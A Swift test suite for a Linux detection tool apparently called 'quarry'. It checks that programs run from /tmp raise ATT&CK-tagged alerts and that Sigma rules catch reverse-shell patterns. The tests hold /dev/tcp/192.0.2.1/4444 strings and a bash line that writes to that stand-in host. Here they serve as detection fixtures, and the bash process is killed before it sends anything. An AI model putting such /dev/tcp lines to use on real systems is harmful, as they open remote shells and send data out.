import Foundation
import Testing

/// Built-in detection artifacts on the real kernel: a program run from /tmp is reported and
/// raises an alert with its ATT&CK technique; one run from /usr/bin is not. Sigma rules match a
/// live execution and a running process.
@Suite(.enabled(if: FileManager.default.isExecutableFile(atPath: CLI.binary) && getuid() == 0, "needs `swift build` and root (eBPF or the process connector)"))
struct DetectionCLITests {
    /// Runs an event query (ending with LIMIT 1) and runs `programs` until it reports; returns
    /// its first row and its log.
    static func watch(_ vql: String, running programs: [(String, [String])], in dir: String) throws -> (row: [String: Any], log: String) {
        let query = Process()
        query.executableURL = URL(fileURLWithPath: CLI.binary)
        query.arguments = ["query", "--format", "jsonl", vql]
        let out = dir + "/out.jsonl", err = dir + "/err.txt"
        _ = FileManager.default.createFile(atPath: out, contents: nil)
        _ = FileManager.default.createFile(atPath: err, contents: nil)
        query.standardOutput = try FileHandle(forWritingTo: URL(fileURLWithPath: out))
        query.standardError = try FileHandle(forWritingTo: URL(fileURLWithPath: err))
        query.standardInput = FileHandle.nullDevice
        try query.run()
        defer { if query.isRunning { kill(query.processIdentifier, SIGKILL) } }
        // The watch needs a moment to attach: run the programs until the query reports (LIMIT 1 ends it).
        let deadline = Date().addingTimeInterval(60)
        while query.isRunning, Date() < deadline {
            for (program, arguments) in programs {
                let run = Process()
                run.executableURL = URL(fileURLWithPath: program)
                run.arguments = arguments
                run.standardOutput = FileHandle.nullDevice
                run.standardError = FileHandle.nullDevice
                try run.run()
                run.waitUntilExit()
            }
            usleep(300_000)
        }
        let log = try String(contentsOfFile: err, encoding: .utf8)
        #expect(!query.isRunning, "no row within 60 s: \(log)")
        let rows = try String(contentsOfFile: out, encoding: .utf8).split(separator: "\n")
        let row = try #require(rows.first.flatMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) } as? [String: Any], "\(log)")
        return (row, log)
    }

    static func scratch() throws -> String {
        let dir = NSTemporaryDirectory() + "quarry-detect-\(UInt32.random(in: 0...UInt32.max))"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        return dir
    }

    @Test func execFromTmpRaisesAnAlert() throws {
        let dir = try Self.scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let dropped = dir + "/dropper"
        try FileManager.default.copyItem(atPath: "/bin/true", toPath: dropped)
        let (row, log) = try Self.watch("SELECT * FROM Artifact.Linux.Detection.ExecFromTmp() LIMIT 1",
                                        running: [("/usr/bin/true", ["quarry-detection-marker"]), (dropped, ["quarry-detection-marker"])], in: dir)
        #expect(row["Exe"] as? String == dropped, "\(row)")
        #expect((row["CommandLine"] as? String)?.contains("quarry-detection-marker") == true)
        #expect(row["Alerted"] as? Bool == true)
        #expect(log.contains("ALERT: ") && log.contains("Linux.Detection.ExecFromTmp") && log.contains("T1036") && log.contains("\"severity\":\"high\""), "\(log)")
    }

    /// The built-in Sigma sample over live executions: a harmless command whose arguments look
    /// like a /dev/tcp reverse shell matches the rule, and the alert carries its level and tags.
    @Test func sigmaRulesMatchALiveExecution() throws {
        let dir = try Self.scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let (row, log) = try Self.watch("SELECT * FROM Artifact.Linux.Events.Sigma() LIMIT 1",
                                        running: [("/usr/bin/true", ["quarry-sigma", "/dev/tcp/192.0.2.1/4444"])], in: dir)
        #expect((row["_Rule"] as? [String: Any])?["Title"] as? String == "Reverse shell through /dev/tcp", "\(row)")
        #expect((row["CommandLine"] as? String)?.contains("quarry-sigma /dev/tcp/192.0.2.1/4444") == true, "\(row)")
        #expect(row["Alerted"] as? Bool == true)
        #expect(log.contains("ALERT: ") && log.contains("\"severity\":\"critical\"") && log.contains("attack.t1059.004"), "\(log)")
    }

    /// Linux.Detection.Sigma as a collection: a running process matches, with its parent filled in.
    @Test func sigmaCollectionFindsARunningProcess() throws {
        let child = Process()
        child.executableURL = URL(fileURLWithPath: "/bin/bash")
        // The shell waits on its own stdin (no child process to outlive it) until it is killed.
        child.arguments = ["-c", "read -r line; echo quarry-sigma > /dev/tcp/192.0.2.1/4444"]
        let stdin = Pipe()
        child.standardInput = stdin
        child.standardOutput = FileHandle.nullDevice
        child.standardError = FileHandle.nullDevice
        try child.run()
        defer { kill(child.processIdentifier, SIGKILL); child.waitUntilExit() }
        let result = try CLI.run(["query", "--format", "json",
                                  "SELECT ProcessId, ParentImage, _Rule.Title AS Title, Details FROM Artifact.Linux.Detection.Sigma() WHERE ProcessId = \(child.processIdentifier)"])
        let rows = try #require((try? JSONSerialization.jsonObject(with: Data(result.stdout.utf8))) as? [[String: Any]], "\(result.stderr)")
        #expect(rows.count == 1, "\(result.stdout) \(result.stderr)")
        #expect(rows.first?["Title"] as? String == "Reverse shell through /dev/tcp")
        #expect((rows.first?["ParentImage"] as? String)?.isEmpty == false, "the parent (this test) is known")
        #expect(result.stderr.contains("sigma: 6 rules"), "\(result.stderr)")
    }
}
